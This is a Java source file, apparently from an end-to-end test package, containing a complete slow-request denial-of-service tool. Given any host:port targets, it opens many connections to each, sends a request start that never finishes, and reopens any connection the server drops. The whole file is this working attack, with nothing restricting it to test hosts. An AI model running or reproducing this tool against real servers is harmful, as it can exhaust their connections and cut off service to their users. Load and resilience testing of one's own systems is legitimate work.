package dev.corvid.e2e.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * {@code IdleConnections COUNT SECONDS BEGINNING HOST:PORT...} keeps so many connections to each
 * open, each after the beginning of a request that never ends, and opens those again that the other
 * side closes.
 */
public final class IdleConnections {
  private static final Duration PAUSE = Duration.ofMillis(200);
  private static final Duration PATIENCE = Duration.ofSeconds(2);

  private final byte[] beginning;
  private final Map<InetSocketAddress, List<SocketChannel>> held = new LinkedHashMap<>();
  private int opened;
  private int failed;
  private int most;

  private IdleConnections(List<String> targets, String beginning) {
    this.beginning = beginning.getBytes(StandardCharsets.ISO_8859_1);
    for (var target : targets) {
      held.put(HostAndPort.of(target), new ArrayList<>());
    }
  }

  /**
   * @param arguments see above; {@code \n} in the beginning ends a line, {@code @} is 4 KiB
   */
  public static void main(String[] arguments) throws InterruptedException {
    var text = arguments[2].replace("\\n", "\r\n").replace("@", "x".repeat(4096));
    new IdleConnections(List.of(arguments).subList(3, arguments.length), text)
        .hold(Integer.parseInt(arguments[0]), Duration.ofSeconds(Long.parseLong(arguments[1])));
  }

  private void hold(int count, Duration time) throws InterruptedException {
    long end = System.nanoTime() + time.toNanos();
    while (System.nanoTime() < end) {
      for (var target : held.entrySet()) {
        var channels = target.getValue();
        channels.removeIf(IdleConnections::isClosed);
        for (int i = channels.size(); i < count && open(target.getKey(), channels); i++) {
          most = Math.max(most, all());
        }
      }
      Thread.sleep(PAUSE); // the pace of the attack: one that is shut out tries again
    }
    held.values().forEach(channels -> channels.removeIf(IdleConnections::isClosed));
    System.out.printf(
        "%d opened, %d refused, at most %d held at once, %d at the end%n",
        opened, failed, most, all());
  }

  private int all() {
    return held.values().stream().mapToInt(List::size).sum();
  }

  /** False when there is none to be had now. */
  private boolean open(InetSocketAddress address, List<SocketChannel> into) {
    try {
      var channel = SocketChannel.open();
      try {
        channel.socket().connect(address, (int) PATIENCE.toMillis());
        channel.write(ByteBuffer.wrap(beginning));
        channel.configureBlocking(false);
        into.add(channel);
        opened++;
        return true;
      } catch (IOException e) {
        channel.close();
        throw e;
      }
    } catch (IOException e) {
      failed++;
      return false;
    }
  }

  private static boolean isClosed(SocketChannel channel) {
    try {
      if (channel.read(ByteBuffer.allocate(512)) >= 0) {
        return false;
      }
      channel.close();
    } catch (IOException e) {
      // So it is.
    }
    return true;
  }
}
